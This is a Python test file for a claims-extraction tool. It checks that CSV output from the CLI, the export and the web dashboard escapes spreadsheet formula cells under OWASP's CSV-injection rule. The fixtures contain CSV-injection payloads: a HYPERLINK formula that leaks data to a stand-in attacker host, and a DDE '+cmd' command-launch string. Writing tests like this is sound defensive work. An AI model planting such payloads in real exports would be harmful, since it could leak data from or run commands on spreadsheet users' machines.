"""Every CSV the project writes escapes cells a spreadsheet would run as formulas (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from conftest import running
from counterclaim import api
from counterclaim.cli import cli
from counterclaim.models import Document
from counterclaim.web import create_app

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
DOCUMENTS = [
    Document(
        id=LINK,
        text="+cmd|' /C calc'!A0 At least 12 people were killed in Kharkiv, the governor said.",
        outlet="@SUM(A1:A9)",
        url="http://example.com/a",
    ),
    Document(id="-2+3.txt", text="Officials said 40 people were wounded in Odesa on Monday.", outlet="\tTab"),
    Document(id="cr.txt", text="At least 7 people were killed in Sumy, officials said.", outlet="\rCR"),
]


def _rows(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    return rows


def _assert_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(FORMULA_STARTS), (column, cell)
    numbers = [row["value"] for row in rows if row.get("value")]
    assert numbers and all(value.isdigit() for value in numbers)  # counts are written as they are


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'ledger.db'}"
    ledger = api.open_ledger(url)
    api.ingest(ledger, DOCUMENTS)
    ledger.engine.dispose()
    return url


def test_csv_spreadsheet_safe_follows_owasp():
    from counterclaim.formats import spreadsheet_safe

    for start in FORMULA_STARTS:
        assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(12) == 12  # numbers stay numbers
    assert spreadsheet_safe(None) is None


def test_csv_claims_and_export(hostile_ledger: str, tmp_path: Path):
    runner = CliRunner()
    listed = runner.invoke(cli, ["claims", "--db", hostile_ledger, "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    rows = _rows(listed.stdout)
    _assert_safe(rows)
    assert "'" + LINK in {row["doc"] for row in rows}
    assert "'-2+3.txt" in {row["doc"] for row in rows}

    target = tmp_path / "claims.csv"
    exported = runner.invoke(cli, ["export", str(target), "--db", hostile_ledger, "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    rows = _rows(target.read_text(encoding="utf-8"))
    _assert_safe(rows)
    assert any(row["evidence"].startswith("'+cmd|") for row in rows)


def test_csv_extract(tmp_path: Path):
    article = tmp_path / "@SUM(1+1).txt"
    article.write_text(
        f"{LINK} At least 12 people were killed in Kharkiv, the governor said.\n", encoding="utf-8"
    )
    result = CliRunner().invoke(
        cli, ["extract", str(article), "--published", "2024-03-14", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    _assert_safe(rows)
    assert rows[0]["doc"] == "'@SUM(1+1).txt"
    assert rows[0]["evidence"].startswith("'" + LINK)


def test_csv_download_from_the_dashboard(hostile_ledger: str):
    app = create_app(hostile_ledger)
    with running(app) as base:
        answer = httpx.get(f"{base}/api/claims.csv", timeout=30)
    app.state.dashboard.ledger.engine.dispose()
    assert answer.status_code == 200
    rows = _rows(answer.text)
    _assert_safe(rows)
    assert {"'@SUM(A1:A9)", "'\tTab", "'\rCR"} <= {row["outlet"] for row in rows}
